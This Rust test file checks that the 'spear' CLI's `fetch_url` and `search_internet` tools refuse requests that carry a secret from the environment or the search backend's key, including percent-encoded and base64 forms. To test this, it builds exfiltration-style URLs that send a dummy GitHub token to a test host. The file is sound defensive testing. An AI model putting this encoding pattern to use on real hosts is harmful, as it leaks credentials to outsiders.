//! Issue 31, part 8, at the binary against the hermetic test network: run inside
//! `scripts/test-host.sh run cargo test -p spear-cli --test web_secrets` (as spear-test:
//! scripts/test-unprivileged.sh); outside it every test fails, saying so.
//!
//! `spear tool fetch_url` whose URL carries the value of a secret-looking variable of spear's own
//! environment (as is, percent-encoded, base64) is denied with `secret_in_request` in SAFE and
//! AUTO, and the web host never sees the request; the audit log and the result show no form of
//! the value. `search_internet` never sends the search backend's key (the operator's credential,
//! under a name that does not look secret) in a query. Positive control of each: the same call,
//! spear's environment not holding the value, reaches the web host.

#![allow(clippy::expect_used, clippy::unwrap_used)]

mod support;

use std::process::Stdio;

use serde_json::{Value, json};
use spear_core::known_secrets::{KnownSecrets, Origin};
use spear_testkit::net::{encode, marker, requests_with};
use support::{Dirs, SpearCommands as _, config};

/// How a URL carries a value.
type Carry = fn(&str) -> String;

const TOKEN: &str = "ghp_Sp34rT3stT0k3nV4lu3AbCdEf0123456789";

/// `spear tool TOOL --args ARGS FLAGS`, with `env` added to its environment: its exit status, its
/// envelope, and the audit log it left.
fn spear_tool(
    d: &Dirs,
    tool: &str,
    args: &Value,
    flags: &[&str],
    env: &[(&str, &str)],
) -> (Option<i32>, Value, String) {
    let out = d
        .spear(&["tool", tool])
        .args(flags)
        .arg("--args")
        .arg(args.to_string())
        .envs(env.iter().copied())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not an envelope ({e}):\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    let audit =
        std::fs::read_to_string(d.state.join("spear").join("audit.jsonl")).unwrap_or_default();
    (out.status.code(), v, audit)
}

fn known(value: &str) -> KnownSecrets {
    let mut k = KnownSecrets::new();
    k.add("v", value, Origin::Environment);
    k
}

/// Each row: how the URL carries the token. SAFE (`spear tool`'s default) and AUTO: exit 126,
/// `secret_in_request`, the request never arrives, no form of the token in the envelope or the
/// audit log. Positive control per row: the same call without the token in spear's environment
/// arrives.
#[test]
fn spear_tool_never_sends_a_secret_of_its_environment() {
    spear_testkit::require_test_network!();
    let d = Dirs::with(&[("README.md", "readme\n")]);
    let rows: Vec<(&str, Carry)> = vec![
        ("as is", str::to_owned),
        ("percent-encoded", |v| {
            v.bytes().fold(String::new(), |mut s, b| {
                use std::fmt::Write as _;
                let _ = write!(s, "%{b:02X}");
                s
            })
        }),
        ("base64", |v| {
            use base64::Engine as _;
            encode(&base64::engine::general_purpose::STANDARD.encode(format!("t={v}")))
        }),
    ];
    for flags in [&[][..], &["--auto"][..]] {
        for (what, carry) in &rows {
            let m = marker("cli");
            let url = format!("http://public.test/echo?body=ok&m={m}&k={}", carry(TOKEN));
            let (code, v, audit) = spear_tool(
                &d,
                "fetch_url",
                &json!({"url": url}),
                flags,
                &[("GITHUB_TOKEN", TOKEN)],
            );
            assert_eq!(code, Some(126), "{flags:?} {what}: {v}");
            assert_eq!(v["status"], "denied", "{what}: {v}");
            assert_eq!(v["rule"], "secret_in_request", "{what}: {v}");
            assert!(
                v["reason"].as_str().unwrap().contains("GITHUB_TOKEN"),
                "{what}: {v}"
            );
            assert!(requests_with(&m).is_empty(), "{what}: the request arrived");
            assert_eq!(known(TOKEN).find(&v.to_string()), None, "{what}: {v}");
            assert_eq!(known(TOKEN).find(&audit), None, "{what}: {audit}");
            let last: Value = serde_json::from_str(audit.lines().last().unwrap()).unwrap();
            assert_eq!(last["rule"], "secret_in_request", "{last}");
            // Positive control: spear's environment does not hold the value.
            let m = marker("cli-control");
            let url = format!("http://public.test/echo?body=ok&m={m}&k={}", carry(TOKEN));
            let (code, v, _) = spear_tool(&d, "fetch_url", &json!({"url": url}), flags, &[]);
            assert_eq!(code, Some(0), "{flags:?} {what}: {v}");
            assert_eq!(requests_with(&m).len(), 1, "{what}: the control arrived");
        }
    }
}

/// The search backend's key (the operator's credential: Brave's, in a variable whose name does not
/// look secret) in a query is refused, and the backend never sees that query. Positive control:
/// the same query with the key not configured reaches it.
#[test]
fn search_internet_never_sends_the_backends_key_in_a_query() {
    spear_testkit::require_test_network!();
    let d = Dirs::with(&[("README.md", "readme\n")]);
    let cfg = config(
        "[web.search]\nbackend = \"brave\"\nendpoint = \"http://public.test/echo\"\nkey_env = \"MY_SEARCH\"\n",
    );
    let key = "brave-k3y-0001";
    for (set, refused) in [(key, true), ("another-k3y-0002", false)] {
        let m = marker("search");
        let (code, v, audit) = spear_tool(
            &d,
            "search_internet",
            &json!({"query": format!("{m} {key}")}),
            &["--config", &cfg.path],
            &[("MY_SEARCH", set)],
        );
        if refused {
            assert_eq!(code, Some(126), "{v}");
            assert_eq!(v["rule"], "secret_in_request", "{v}");
            assert!(v["reason"].as_str().unwrap().contains("MY_SEARCH"), "{v}");
            assert!(requests_with(&m).is_empty(), "the query arrived");
            assert_eq!(known(key).find(&audit), None, "{audit}");
        } else {
            assert_ne!(v["rule"], "secret_in_request", "{v}");
            assert_eq!(requests_with(&m).len(), 1, "the control arrived: {v}");
        }
    }
}
